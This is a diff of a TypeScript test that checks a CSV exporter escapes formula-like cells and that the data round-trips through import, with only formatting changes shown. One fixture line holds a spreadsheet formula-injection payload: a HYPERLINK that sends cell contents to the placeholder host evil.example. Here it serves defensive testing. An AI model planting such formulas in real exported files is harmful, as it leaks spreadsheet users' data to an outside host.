@@ -138,13 +138,16 @@ describe.each(engines)('CSV templates and Arrow on $name', (engine) => {
 		const outDir = join(tmp, `${engine.name}-formula`);
 		await exportTables(db, { format: 'csv', outDir, tables: ['providers'] });
 		const lines = readFileSync(join(outDir, 'providers.csv'), 'utf8').split('\r\n');
-		expect(lines).toContain(`formula-provider,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")",vet,AU,,true,generated`);
+		expect(lines).toContain(
+			`formula-provider,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")",vet,AU,,true,generated`
+		);
 		expect(lines).toContain("formula-provider-2,''=already quoted,vet,AU,,true,generated");
 		const fresh = await engine.open();
 		try {
 			await importFiles(fresh, collectFiles([outDir]));
 			const rows = await fresh.query<{ name: string }>(
-				(await import('drizzle-orm')).sql`select name from providers where id like 'formula-provider%' order by id`
+				(await import('drizzle-orm'))
+					.sql`select name from providers where id like 'formula-provider%' order by id`
 			);
 			expect(rows.map((r) => r.name)).toEqual([hyperlink, "'=already quoted"]);
 		} finally {
